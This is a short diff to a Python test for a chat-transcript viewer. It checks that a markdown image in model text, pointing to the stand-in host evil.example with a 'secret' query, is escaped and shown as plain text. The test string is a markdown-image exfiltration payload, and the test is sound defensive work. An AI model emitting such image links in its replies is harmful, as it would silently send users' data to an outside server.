@@ -66,7 +66,8 @@ def test_the_transcript_groups_turns_and_settles_consent_cards():
 
 
 def test_markdown_images_in_model_text_are_shown_as_text():
-    assert view.safe_markdown("see ![x](https://evil.example/?q=secret)") == "see !\\[x](https://evil.example/?q=secret)"
+    shown = view.safe_markdown("see ![x](https://evil.example/?q=secret)")
+    assert shown == "see !\\[x]\\(https:\u2060//evil.example/?q=secret)"
 
 
 def test_the_page_state_belongs_to_one_user():
